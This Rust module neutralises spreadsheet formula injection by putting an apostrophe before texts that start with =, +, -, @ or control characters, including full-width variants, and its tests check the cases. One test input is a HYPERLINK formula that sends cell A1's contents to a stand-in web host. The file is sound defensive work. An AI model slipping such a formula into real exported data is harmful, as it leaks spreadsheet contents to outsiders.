//! Texts of others in tables: a spreadsheet program takes one that begins like a formula for a formula, which may change what is shown
//! or send it to somebody. An apostrophe before it makes it a text in every such program.

use std::borrow::Cow;

/// Whether a spreadsheet program may take a text for a formula. A plain number is none, whatever its sign.
pub(super) fn begins(text: &str) -> bool {
    match text.as_bytes().first() {
        Some(b'+' | b'-') => !is_number(text.get(1..).unwrap_or_default()),
        Some(b'=' | b'@' | b'\t' | b'\r' | b'\n') => true,
        // The same signs as they are typed in Chinese.
        Some(0xEF) => text.starts_with(['＝', '＋', '－', '＠']),
        _ => false,
    }
}

/// Digits, with a point among them at most.
fn is_number(text: &str) -> bool {
    let (whole, part) = text.split_once('.').unwrap_or((text, "0"));
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    digits(whole) && digits(part)
}

/// The text as it may stand in a table.
pub(super) fn harmless(text: &str) -> Cow<'_, str> {
    if begins(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_that_begins_like_a_formula_is_made_a_text() {
        for formula in [
            "=HYPERLINK(\"https://example.com/?q=\"&A1,\"order\")",
            "=1",
            "+51987654321 ",
            "-1+1",
            "-",
            "+",
            "-.5",
            "-5.",
            "-1.2.3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "＝1",
            "－A1",
        ] {
            assert_eq!(harmless(formula), format!("'{formula}"), "{formula:?}");
        }
        for text in ["", "-15.00", "+51987654321", "-0", "A=1", "'=1", "1-2", "、", "Ａ", "ORD-1", " =1"] {
            assert_eq!(harmless(text), text, "{text:?}");
        }
    }
}
